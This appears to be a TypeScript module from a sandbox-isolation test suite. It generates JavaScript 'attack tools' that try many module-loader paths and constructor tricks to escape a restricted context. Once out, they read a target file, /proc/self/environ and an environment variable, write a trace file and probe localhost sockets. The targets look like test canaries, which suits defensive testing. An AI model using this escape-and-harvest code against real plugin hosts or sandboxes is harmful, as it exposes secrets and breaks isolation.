import type { Targets } from './prey.ts'

/**
 * Source of what every attack may use, in a plugin as well as in a thread without walls:
 * - `loot(root)` does all that can be done with a `process`, a `require` or a list of modules: reads the file and the
 *   variable, writes the trace, visits every listener; answers what it read
 * - `compile(Constructor)` makes code with it and loots what that finds
 * - `seize(value)` walks everything that can be reached from a value, and compiles and loots on the way
 */
export function toolsFor(targets: Targets): string {
  return `const prey = ${JSON.stringify(targets)}\n${tools}`
}

const tools = `
const attempt = (run) => { try { return run() } catch {} }
const loadersOf = (root) => [
  (name) => root.getBuiltinModule(name),
  (name) => root.mainModule.require(name),
  (name) => root.require(name),
  (name) => root(name),
  (name) => root._load(name),
  (name) => root.process.getBuiltinModule(name),
]
const loot = async (root) => {
  if (root === null || root === undefined) return
  for (const load of loadersOf(root)) {
    const fs = attempt(() => load('node:fs'))
    if (typeof attempt(() => fs.readFileSync) !== 'function') continue
    const found = [attempt(() => fs.readFileSync(prey.file, 'utf8')), attempt(() => fs.readFileSync('/proc/self/environ', 'utf8'))]
    attempt(() => fs.writeFileSync(prey.trace, 'x'))
    found.push(attempt(() => load('node:process').env[prey.variable]), attempt(() => root.env[prey.variable]))
    await visit(load)
    const text = found.filter((one) => typeof one === 'string').join(' ')
    if (text !== '') return text
  }
}
const visit = async (load) => {
  const closed = (socket) => new Promise((done) => { socket.on('error', done); socket.on('close', done); socket.resume() })
  const net = attempt(() => load('node:net'))
  for (const address of [{ port: prey.tcpPort, host: '127.0.0.1' }, { path: prey.unixSocket }]) {
    const socket = attempt(() => net.connect(address))
    if (socket) await closed(socket)
  }
  const socket = attempt(() => load('node:dgram').createSocket('udp4'))
  if (socket) await new Promise((done) => { socket.on('error', done); socket.send('x', prey.udpPort, '127.0.0.1', done) })
  attempt(() => socket.close())
}
const compile = async (Constructor) => {
  for (const code of ['return process', 'return globalThis', 'return require']) {
    try {
      let made = await Constructor(code)()
      if (typeof attempt(() => made.next) === 'function') made = (await made.next()).value
      const text = await loot(made)
      if (text) return text
    } catch {}
  }
}
const partsOf = (value) => {
  const parts = []
  attempt(() => parts.push(Object.getPrototypeOf(value)))
  const keys = attempt(() => Reflect.ownKeys(value)) ?? []
  for (const key of keys) {
    const property = attempt(() => Object.getOwnPropertyDescriptor(value, key)) ?? {}
    parts.push(property.value, property.get, property.set)
    if (property.get) parts.push(attempt(() => value[key]))
  }
  return parts
}
const seize = async (...values) => {
  const seen = new Set(values)
  for (const value of seen) {
    if ((typeof value !== 'object' && typeof value !== 'function') || value === null) continue
    if (seen.size > 20000) break
    const text = (await loot(value)) ?? (typeof value === 'function' ? await compile(value.constructor) : undefined)
    if (text) return text
    for (const part of partsOf(value)) seen.add(part)
  }
}
`
